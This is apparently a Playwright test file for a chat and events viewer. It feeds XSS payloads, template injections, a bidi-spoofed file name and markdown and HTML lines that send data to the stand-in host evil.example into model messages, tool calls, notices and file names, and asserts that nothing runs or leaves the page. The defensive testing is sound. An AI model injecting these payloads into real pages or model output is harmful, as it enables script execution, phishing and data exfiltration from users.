"""What a model, a peer, a file or a device says is text, wherever the page shows it."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import urlsplit

import pytest
import pytest_asyncio
from playwright.async_api import Page, expect

from tests.browser.played import Played, event, item

pytestmark = [
    pytest.mark.browser,
    pytest.mark.page,
    pytest.mark.asyncio(loop_scope="session"),
]

CALL = "window.PWNED=(window.PWNED??0)+1"
PAYLOADS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<details open ontoggle={CALL}>",
    f"<a href='javascript:{CALL}' id=lure>click</a>",
    f"[click](javascript:{CALL})",
    f'"><img src=x onerror={CALL}>',
    f"' onmouseover='{CALL}' x='",
    f'" innerHTML="<img src=x onerror={CALL}>" x="',
    f'" v-html="{CALL}" :title="{CALL}" @vue:mounted="{CALL}',
    "{{constructor.constructor('" + CALL + "')()}}",
    "${" + CALL + "}",
    "`+" + CALL + "+`",
    f"');{CALL};//",
    "![x](http://evil.example/?d=SECRET)",
    "<img src=http://evil.example/a.png><link rel=stylesheet href=http://evil.example/b.css>",
    "<style>@import 'http://evil.example/c.css';*{background:url(http://evil.example/d)}</style>",
    "<form action=http://evil.example/><input name=password><button>Sign in</button></form>",
    "<audio src=http://evil.example/e autoplay></audio><video poster=http://evil.example/f>",
    "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "\u202e\u2066gnp.exe\u200b\ufeff\x1b[31m",
    "a" + "\u0301" * 10_000,
)
ALL = "\n".join(PAYLOADS)
PLANTED = (
    "[srcdoc], [onerror], [onload], [ontoggle], [onmouseover], [href^='javascript:'],"
    "[src*='evil.example'], [href*='evil.example'], [action*='evil.example'], [poster],"
    "form[action], #lure, base[href*=evil]"
)
"""What would be in the page if any of it had been taken for markup."""
TURNED = """[...document.querySelectorAll("body *")].filter((element) => {
  const own = [...element.childNodes].filter((each) => each.nodeType === Node.TEXT_NODE);
  if (!own.some((each) => each.data.includes("\u202e"))) return false;
  const style = getComputedStyle(element);
  return style.display.startsWith("inline") && style.unicodeBidi === "normal";
}).map((element) => element.outerHTML.slice(0, 200))"""
"""Text that turns the direction, and would turn what stands beside it in the line, too."""


@pytest_asyncio.fixture(loop_scope="session")
async def watched(demo_page: Page) -> AsyncIterator[Page]:
    """The demo page; afterwards nothing has run, nothing was planted, no request has left."""
    left: list[str] = []

    def note(url: str) -> None:
        if urlsplit(url).hostname not in {"127.0.0.1", "tile.openstreetmap.org", None}:
            left.append(url)

    demo_page.on("request", lambda request: note(request.url))
    demo_page.on("framenavigated", lambda frame: note(frame.url))
    yield demo_page
    # A frame and a turn of the loop: what was inserted has been laid out and has begun to load.
    await demo_page.evaluate(
        "new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done))))"
    )
    assert await demo_page.evaluate("window.PWNED ?? 0") == 0
    planted = await demo_page.locator(PLANTED).evaluate_all(
        "all => all.map((each) => each.outerHTML)"
    )
    assert planted == []
    assert await demo_page.evaluate(TURNED) == []
    assert left == []


def every_item() -> list[dict[str, object]]:
    said = [item(f"said{n}", text=text) for n, text in enumerate(PAYLOADS)]
    call = item(
        "call", type="function_call", role=None, name=PAYLOADS[1], arguments=ALL, output=ALL,
        error=ALL, duration_ms=1.0,
    )  # fmt: skip
    approval = item("approval", type="mcp_approval_request", role=None, name=ALL, arguments=ALL)
    noted = item("noted", role="user", text=ALL, note=ALL)
    return [*said, call, approval, noted]


async def test_what_is_said_and_what_tools_answer_is_text(watched: Page, played: Played) -> None:
    await played.send({"k": "items", "items": every_item()})
    await played.send({"k": "text", "deltas": [["said0", ALL]]})

    conversation = watched.get_by_role("region", name="Conversation")
    await expect(conversation).to_contain_text("onerror")
    await expect(conversation).to_contain_text("constructor.constructor")
    for each in await conversation.locator("summary, [aria-expanded=false]").all():
        await each.click(timeout=2000)


async def test_event_types_summaries_and_their_json_are_text(watched: Page, played: Played) -> None:
    told: dict[str, Any] = {ALL: ALL, "deep": {"list": [ALL, {ALL: [ALL]}]}}
    await played.add(
        *(
            event(text, item_id=text, response_id=text, event_id=text, delta=text)
            for text in PAYLOADS
        ),
        event(ALL, **told),
    )
    events = watched.get_by_role("region", name="Events")

    await events.locator(f".rc-row[data-i='{len(PAYLOADS)}']").click()

    detail = watched.get_by_role("complementary", name="Event JSON")
    await expect(detail).to_contain_text("constructor")
    await expect(events.locator(".rc-row[data-i]").last).to_contain_text("a")


async def test_notices_memory_and_places_are_text(watched: Page, played: Played) -> None:
    await played.change(
        notices=[
            {"notice_id": f"n{n}", "kind": "error", "sentence": text}
            for n, text in enumerate(PAYLOADS[:12])
        ],
        memory={text: {text: [text]} for text in PAYLOADS},
    )
    for n, text in enumerate(PAYLOADS[:12]):
        place = {"location": text, "latitude": 1.0 + n, "longitude": 2.0, "error": None}
        await played.change(places=[place | {"temperature": [1, text], "wind": [1, text]}])

    await expect(watched.get_by_role("region", name="Memory")).to_contain_text("constructor")
    await expect(watched.get_by_role("region", name="Weather")).to_contain_text("constructor")
    marker = watched.get_by_role("region", name="Weather").locator(".leaflet-marker-icon")
    await marker.click()
    await marker.hover()


async def test_the_names_of_files_are_text(watched: Page, played: Played) -> None:
    for name in PAYLOADS[:15]:
        await played.change(file_name=f"{name}.wav")

        await expect(watched.get_by_text(f"{name}.wav")).to_be_visible()
        await watched.get_by_text(f"{name}.wav").hover()
